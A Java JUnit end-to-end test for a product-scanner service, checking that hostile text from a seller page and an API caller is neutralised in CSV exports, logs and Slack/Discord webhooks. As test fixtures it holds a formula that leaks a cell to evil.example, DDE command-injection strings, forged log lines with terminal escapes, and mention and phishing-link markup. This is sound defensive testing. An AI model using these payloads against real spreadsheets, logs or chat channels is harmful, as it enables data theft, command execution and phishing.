package io.productscanner.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text a hostile seller page and a hostile caller chose, through {@code serve} and a site mirror, to the three places
 * it comes out: the CSV download (no cell a spreadsheet runs as a formula, JSON Lines untouched), the log (no forged
 * line, no terminal escape) and the Slack and Discord webhooks (no mention, no link markup).
 */
class HostileTextOutputTest {
    private static final String FORMULA_NAME = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"특가\")";
    private static final String MARKUP_NAME =
            "<@U123> <http://evil.example|무신사 공식> @here\nResults: https://evil.example/fake";
    private static final String FORGED_TIME = "2026-01-01T00:00:00.000Z";
    private static final String SITE_MESSAGE = "점검 중\r\u001b[31m\n" + FORGED_TIME
            + " INFO service=api ApiServer event=job.finished job_id=x status=completed\u001b[0m\u2028done";

    @TempDir
    static Path work;

    private static WebhookSink sink;
    private static MirroredServe serving;
    private static JsonNode job;

    @BeforeAll
    static void runAValidationOverHostileText() throws Exception {
        sink = new WebhookSink();
        MusinsaMirror site = new MusinsaMirror()
                .product(7_100_001, FORMULA_NAME, 20_000, 15_000, "SALE", 0)
                .product(7_100_002, MARKUP_NAME, 20_000, 15_000, "SALE", 0)
                .failing(7_100_003, "MAINTENANCE_\u001b[2J", SITE_MESSAGE);
        serving = MirroredServe.start(
                site.writeTo(work.resolve("mirror")),
                work,
                Map.of(
                        "MUSINSA_PACING_MS",
                        "0",
                        "MUSINSA_BACKOFF_BASE_MS",
                        "10",
                        "SLACK_WEBHOOK_URL",
                        sink.url("/slack"),
                        "DISCORD_WEBHOOK_URL",
                        sink.url("/discord"),
                        "LOG_FORMAT",
                        "text"));

        ArrayNode products = Api.JSON.createArrayNode();
        products.addObject()
                .put("url", "https://www.musinsa.com/products/7100001")
                .put("product_set_id", "@SUM(1+1)*cmd|' /C calc'!A0")
                .putObject("expected")
                .put("product_name", "+cmd|' /C calc'!A0")
                .put("thumbnail", "-2+3")
                .put("original_price", 20_000);
        products.addObject()
                .put("url", "https://www.musinsa.com/products/7100002")
                .put("product_set_id", "ps-2")
                .putObject("expected")
                .put("product_name", "<!channel> 긴급 @everyone [가격 수정](https://evil.example/login)");
        products.addObject()
                .put("url", "https://www.musinsa.com/products/7100003")
                .put("product_set_id", "ps-3");
        ObjectNode request = Api.JSON.createObjectNode().put("workflow_id", "musinsa-validation-v2");
        request.putObject("params").set("products", products);
        Api.Reply accepted = serving.api().post("/api/v2/workflows/execute", request.toString());
        assertEquals(202, accepted.status(), accepted.raw());
        job = serving.api()
                .awaitFinished(accepted.body().path("data").path("job_id").asText(), Duration.ofSeconds(120));
        assertEquals(
                "completed",
                job.path("status").asText(),
                job + "\n" + serving.server().output());
    }

    @AfterAll
    static void stop() throws Exception {
        if (serving != null) {
            serving.close();
        }
        if (sink != null) {
            sink.close();
        }
    }

    @Test
    void theCsvDownloadShowsTheSellersAndTheCallersFormulasAsTextAndJsonLinesKeepThemAsTheyCame() throws Exception {
        String results = "/api/v2/jobs/" + job.path("job_id").asText() + "/results";
        Api.Reply csv = serving.api().get(results + "?format=csv");
        assertEquals(200, csv.status());

        assertTrue(
                csv.raw().contains(",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"특가\"\")\","), csv.raw());
        assertTrue(
                csv.raw()
                        .contains("\r\nhttps://www.musinsa.com/products/7100001,musinsa,7100001,"
                                + "\"'@SUM(1+1)*cmd|' /C calc'!A0\","),
                csv.raw());
        assertTrue(
                csv.raw().contains(",\"'+cmd|' /C calc'!A0\",\"'-2+3\",20000,"),
                "the caller's text is text, its price a number: " + csv.raw());
        for (String line : csv.raw().split("\r\n")) {
            for (String cell : line.split(",")) {
                assertFalse(
                        cell.startsWith("=") || cell.startsWith("@") || cell.startsWith("+"),
                        "a cell a spreadsheet runs: " + cell + " in " + line);
            }
        }

        List<JsonNode> lines = serving.api()
                .get(results + "?format=jsonl")
                .raw()
                .lines()
                .map(HostileTextOutputTest::json)
                .toList();
        JsonNode formula = lines.stream()
                .filter(line -> line.path("product_id").asText().equals("7100001"))
                .findFirst()
                .orElseThrow();
        assertEquals(FORMULA_NAME, formula.path("fetched").path("product_name").asText());
        assertEquals(
                "@SUM(1+1)*cmd|' /C calc'!A0", formula.path("product_set_id").asText());
        JsonNode page =
                serving.api().get(results + "?limit=10").body().path("data").path("items");
        assertEquals(page.size(), lines.size());
        for (int i = 0; i < lines.size(); i++) {
            assertEquals(page.get(i), lines.get(i), "JSON Lines hold what the results API shows");
        }
    }

    @Test
    void theSitesMessageReachesTheLogEscapedOnTheLineOfItsEventWithoutATerminalEscape() throws Exception {
        String log = serving.server().output();

        String scanFailed = log.lines()
                .filter(line -> line.contains("event=scan.failed"))
                .findFirst()
                .orElseThrow(() -> new AssertionError("no scan.failed in:\n" + log));
        assertTrue(scanFailed.contains("점검 중\\r\\u001b[31m\\n" + FORGED_TIME + " INFO service=api"), scanFailed);
        assertTrue(scanFailed.contains("\\u2028done"), scanFailed);
        for (String line : log.split("\n")) {
            assertFalse(line.startsWith(FORGED_TIME), "a forged line: " + line);
            assertFalse(
                    line.contains("\u001b") || line.contains("\r") || line.contains("\u2028"),
                    "a raw control character in: " + line);
        }
    }

    @Test
    void theWebhooksGetNoMentionAndNoLinkMarkupFromTheSiteOrTheCaller() throws Exception {
        JsonNode slack = json(sink.await(d -> d.path().equals("/slack"), Duration.ofSeconds(30), "Slack message")
                .body());
        String text = slack.path("text").asText();
        assertFalse(text.contains("<") || text.contains(">"), text);
        assertTrue(text.contains("&lt;!channel&gt; 긴급 @everyone"), text);
        assertTrue(
                text.contains("&lt;@U123&gt; &lt;http://evil.example|무신사 공식&gt; @here Results: "
                        + "https://evil.example/fake"),
                text);
        assertEquals(
                1, text.lines().filter(line -> line.startsWith("Results: ")).count(), text);
        assertFalse(slack.path("unfurl_links").asBoolean(true));

        JsonNode discord = json(sink.await(d -> d.path().equals("/discord"), Duration.ofSeconds(30), "Discord message")
                .body());
        assertEquals(0, discord.path("allowed_mentions").path("parse").size(), discord.toString());
        assertTrue(discord.path("allowed_mentions").path("parse").isArray(), discord.toString());
        String content = discord.path("content").asText();
        assertFalse(content.contains("@everyone") || content.contains("@here"), content);
        assertTrue(content.contains("\\[가격 수정\\](https://evil.example/login)"), content);
        assertTrue(content.contains("\\<@U123>"), content);
    }

    @Test
    void theOperatorsResultsTableShowsTheSitesTextEscapedAndItsCsvIsTheApisDownload() throws Exception {
        String jobId = job.path("job_id").asText();
        Map<String, String> env = Map.of("API_URL", "http://127.0.0.1:" + serving.port());

        ScannerProcessHandle.Finished table = ScannerProcessHandle.run(env, Duration.ofSeconds(90), "results", jobId);
        assertEquals(0, table.exitCode(), table.output());
        assertFalse(
                table.output().contains("\u001b") || table.output().contains("\r"),
                "no terminal escape reaches the operator's terminal: " + table.output());
        assertTrue(
                table.output().contains("'MAINTENANCE_\\u001b[2J' (점검 중\\r\\u001b[31m\\n" + FORGED_TIME),
                table.output());
        assertEquals(
                1,
                table.output()
                        .lines()
                        .filter(line -> line.startsWith("7100003 "))
                        .count(),
                "one row per result: " + table.output());

        ScannerProcessHandle.Finished csv =
                ScannerProcessHandle.run(env, Duration.ofSeconds(90), "results", jobId, "--format", "csv");
        assertEquals(0, csv.exitCode(), csv.output());
        assertTrue(csv.output().contains(",\"'=HYPERLINK("), csv.output());
    }

    private static JsonNode json(String text) {
        try {
            return Api.JSON.readTree(text);
        } catch (IOException e) {
            throw new AssertionError("not JSON: " + text, e);
        }
    }
}
